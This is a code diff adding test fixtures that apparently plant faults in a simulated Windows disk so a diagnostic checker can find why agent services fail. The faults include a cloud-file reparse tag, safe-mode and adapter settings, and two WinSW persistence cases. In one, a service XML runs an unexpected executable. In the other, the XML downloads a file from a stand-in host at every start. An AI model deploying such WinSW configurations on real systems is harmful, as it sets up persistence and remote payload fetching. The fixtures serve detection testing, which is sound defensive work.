@@ -1,4 +1,5 @@
 """The agents' services: registered as they should be, and yet they never run."""
+import os
 import struct
 
 from windows_disk import *
@@ -12,6 +13,33 @@ def value(name, service, check, entry, kind, data, why):
 
 
 # --- what a service is ---
+@change(SECURITY, 'WinAgent.exe')
+def program_of_a_cloud(d):
+    """The filter of cloud files (cldflt.sys) refuses a file that no provider knows (error 363), whatever its data are."""
+    os.setxattr(d.find(r'WinAgent\WinAgent.exe'), 'system.ntfs_reparse_data', struct.pack('<IHH', 0x9000001A, 4, 0) + b'stub')
+
+
+change.row('safe-mode-on-disk', 'Whoever asks for the mode of the start finds it there.', SECURITY, 'OptionValue', lambda d: d.system(rf'{CONTROL}\SafeBoot\Option', 'OptionValue', DWORD, 1))
+change.row('adapter-switched-off', 'CONFIGFLAG_DISABLED: the adapter stays off (code 22).', 'WIN-CAP-002', 'ConfigFlags', lambda d: d.system(
+    r'ControlSet001\Enum\PCI\VEN_1AF4&DEV_1000&SUBSYS_00011AF4&REV_00\3&13c0b0c5&0&28', 'ConfigFlags', DWORD, 1))
+
+
+@change('WIN-CAP-002', 'FilterRunType')
+def mandatory_filter_of_the_network_missing(d):
+    """NDIS binds no adapter without a mandatory filter (FilterRunType 1)."""
+    ndi = rf'{CONTROL}\Network\{{4D36E974-E325-11CE-BFC1-08002BE10318}}\{{AAAAAAAA-2222-3333-4444-555555555555}}\Ndi'
+    d.system(ndi, 'Service', SZ, 'nosuchlwf')
+    d.system(ndi, 'FilterRunType', DWORD, 1)
+    d.system(rf'{ndi}\Interfaces', 'FilterMediaTypes', SZ, 'ethernet')
+
+
+change.row('unsigned-program-run-by-winsw', 'WinSW runs as a service what its XML names.', 'WIN-PERSIST-003', 'other.exe', lambda d: (
+    d.honest(r'C:\gate\gate-service.exe'), d.foreign(r'C:\gate\other.exe'), d.service('gate', r'"C:\gate\gate-service.exe"'),
+    d.put(r'gate\gate-service.xml', '<service><id>gate</id><executable>%BASE%\\other.exe</executable></service>')))
+change.row('file-fetched-by-winsw', 'WinSW downloads a file each time it starts.', 'WIN-PERSIST-003', 'download', lambda d: (
+    d.honest(r'C:\gate\gate-service.exe'), d.honest(r'C:\gate\gate.exe'), d.service('gate', r'"C:\gate\gate-service.exe"'),
+    d.put(r'gate\gate-service.xml', '<service><id>gate</id><executable>%BASE%\\gate.exe</executable><download from="http://203.0.113.7/a" to="%BASE%\\gate.dll"/></service>')))
+
 value('type-recognizer', 'WinAgent', SECURITY, 'Type', DWORD, 8, 'Type 8 is that of a file system recognizer: the service manager starts no process for it.')
 value('type-adapter', 'WinAgent', SECURITY, 'Type', DWORD, 4, 'Type 4 (SERVICE_ADAPTER) is reserved: no process is started.')
 value('type-kernel-driver', 'WinAgent', SECURITY, 'Type', DWORD, 1, 'Type 1 is that of a kernel driver, and a program is none: loading it fails.')
